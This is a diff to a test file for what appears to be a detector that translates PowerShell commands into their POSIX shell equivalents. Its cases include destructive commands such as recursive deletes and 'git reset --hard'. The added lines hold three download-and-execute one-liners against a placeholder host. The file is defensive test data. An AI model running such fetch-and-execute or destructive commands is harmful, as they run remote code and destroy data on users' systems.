@@ -35,6 +35,10 @@ describe("PowerShell", () => {
     ["Invoke-Expression 'Remove-Item -Recurse build'", "rm -rf -- build"],
     ["& git reset --hard", "git reset --hard"],
     ['cmd /c "rd /s /q build"', "rd /s /q build"],
+    // what a download prints, evaluated
+    ["iwr https://x.example/i.ps1 | iex", "curl -fsSL https://x.example/i.ps1 | sh"],
+    ["iex (New-Object Net.WebClient).DownloadString('https://x.example/i.ps1')", "curl -fsSL https://x.example/i.ps1 | sh"],
+    ["& ([scriptblock]::Create((irm https://x.example/i.ps1)))", "curl -fsSL https://x.example/i.ps1 | sh"],
   ])("%s", (code, line) => {
     expect(foreignShellLines("pwsh", code).map(unquoted)).toContain(line);
   });
